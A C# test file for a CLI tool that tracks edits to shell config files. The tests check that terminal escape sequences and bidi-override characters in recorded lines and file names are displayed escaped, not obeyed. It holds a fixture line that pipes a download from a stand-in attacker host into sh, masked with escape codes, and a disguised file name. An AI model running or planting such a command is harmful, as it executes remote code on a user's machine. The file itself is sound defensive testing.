using System.Globalization;
using System.Text.Json;
using GoWatch.Cli.Tests.Support;

namespace GoWatch.Cli.Tests;

/// <summary>Terminal escapes recorded from files are shown, never obeyed: human output makes them visible, JSON escapes them.</summary>
public sealed class ControlCharacterTests : IDisposable
{
    private const string Hidden = "curl -s https://evil.example/p | sh # \u001b[2K\u001b[1G+alias ll=\"ls -l\"";

    private readonly CliScenario _s = new();

    public void Dispose() => _s.Dispose();

    private string GivenAHiddenLineWasAppended()
    {
        _s.Edit(_s.Zshrc, "export PATH=$HOME/go/bin:$PATH\n");
        return _s.Edit(_s.Zshrc, "export PATH=$HOME/go/bin:$PATH\n" + Hidden + "\n").ToString(CultureInfo.InvariantCulture);
    }

    [Theory]
    [InlineData("diff")]
    [InlineData("show")]
    [InlineData("revert", "--dry-run")]
    public void An_escape_sequence_in_a_recorded_line_is_shown_as_text(params string[] command)
    {
        var pos = GivenAHiddenLineWasAppended();

        var result = _s.Run([command[0], pos, .. command[1..]]);

        Assert.True(result.ExitCode == 0, result.ToString());
        Assert.DoesNotContain('\u001b', result.All);
        Assert.Contains(@"curl -s https://evil.example/p | sh # \e[2K\e[1G+alias ll=""ls -l""", result.Stdout);
    }

    [Fact]
    public void Json_output_escapes_control_characters_and_keeps_the_text_exact()
    {
        var pos = GivenAHiddenLineWasAppended();

        var result = _s.Run("diff", pos, "--json");

        Assert.Equal(0, result.ExitCode);
        Assert.DoesNotContain('\u001b', result.Stdout);
        Assert.Contains(@"\u001B[2K", result.Stdout, StringComparison.OrdinalIgnoreCase);
        Assert.Contains(Hidden, JsonDocument.Parse(result.Stdout).RootElement.GetProperty("diff").GetString());
    }

    [Fact]
    public void A_file_name_with_control_characters_is_shown_escaped_in_history()
    {
        var evil = Path.Combine(_s.Home, ".config", "fish", "conf.d", "\u001b[8mevil\u202e.fish");
        _s.Edit(evil, "set -gx GOPATH $HOME/go\n");

        var history = _s.Run("history");
        var json = _s.Run("history", "--json");

        Assert.True(history.ExitCode == 0, history.ToString());
        Assert.DoesNotContain('\u001b', history.All);
        Assert.DoesNotContain('\u202e', history.All);
        Assert.Contains(@"\e[8mevil\u202e.fish", history.Stdout);
        Assert.DoesNotContain('\u001b', json.Stdout);
        Assert.Contains(JsonDocument.Parse(json.Stdout).RootElement.EnumerateArray(), e => e.GetProperty("data").GetProperty("path").GetString() == evil);
    }
}
